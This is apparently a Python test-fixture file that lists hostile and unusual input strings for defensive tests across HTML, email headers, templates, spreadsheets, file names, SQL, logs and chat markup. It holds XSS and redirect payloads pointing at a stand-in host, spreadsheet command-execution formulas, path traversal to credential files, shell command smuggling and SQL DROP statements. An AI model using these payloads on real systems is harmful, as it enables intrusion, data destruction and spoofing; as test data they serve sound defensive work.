"""Hostile and unusual words: whatever somebody may type, paste, import or send, for tests of every place it shows."""

HTML = (
    "<script>alert(1)</script>",
    "</title><script src=//evil.test/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "`onclick=alert(1)`",
    "</textarea><form action=//evil.test>",
    "--><iframe src=javascript:alert(1)>",
    "<!--",
    "<style>*{display:none}</style>",
    "<base href=//evil.test>",
    "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<a href='javascript:alert(1)'>here</a>",
    "&lt;script&gt;&#x3c;&amp;",
    "]]><x>",
)
HEADS = (
    "x\r\nBcc: all@evil.test",
    "x\nSubject: another",
    "x\r\n\r\n<html>a second body</html>",
    "x\rX-Evil: 1",
    "x\u2028Bcc: all@evil.test",
    "x\u2029y\u0085z",
    "=?utf-8?q?=0D=0ABcc:_all@evil.test?=",
    "x\x0b\x0cY: z",
    "Ana <ana@evil.test>, Bo",
    "--=_1.2\r\nContent-Type: text/html",
)
UNSEEN = (
    "a\x00b",
    "a\x1b[31mred\x1b[0m\x07",
    "a\x1b]0;title\x07b",
    "\u202egnp.exe",
    "\u2066a\u2067b\u2069",
    "z\u200bero\ufeffwidth",
    "a\x7fb\x9bc",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{% raw %}",
    "{{ ''.__class__.__mro__ }}",
    "{# note #}",
    "${7*7} #{7*7}",
    "%(password)s %s %n {0} {password}",
    "[bold red]not markup[/] [/]",
)
SHEETS = (
    "=cmd|' /C calc'!A0",
    "=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "{=SUM(1)}",
    "'=1+1",
    '=HYPERLINK("http://evil.test","here")',
    'a,b;c\td"e"\n=1+1',
)
NAMES = (
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "C:\\x",
    "con",
    "-rf",
    "a/../b",
    "x;y|z&$(id)`id`",
)
STATEMENTS = ("'; DROP TABLE task; --", "1 OR 1=1", '"; DELETE FROM cycle; --', "%_\\", "x'||(SELECT 1)||'")
LINES = (
    "x\n2026-03-02 01:30:00,000 INFO engine.sweep all is well",
    "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:other",
    "x\\nEND:VCALENDAR;x,y:z",
)
GROUPS = (
    '"}],"msgtype":"text","x":{"y":"',
    '<@all> <at user_id="all">all</at>',
    "[here](http://evil.test) ![x](http://evil.test/x.png)",
    "**bold** # head > quote `code` ~~gone~~",
    '<font color="warning">x</font>',
)
UNUSUAL = (
    "长" * 300,
    "w" * 300,
    "👩‍⚕️🏥" * 40,
    "𠮷野家 𝔘𝔫𝔦",
    "שלום עולם مرحبا",
    "e" + "\u0301" * 60,
    "NULL",
    "-",
)
HOSTILE = (*HTML, *HEADS, *UNSEEN, *TEMPLATES, *SHEETS, *NAMES, *STATEMENTS, *LINES, *GROUPS, *UNUSUAL)
PLAIN = tuple(f"word {n}" for n in range(len(HOSTILE)))  # what the same places look like without any of it
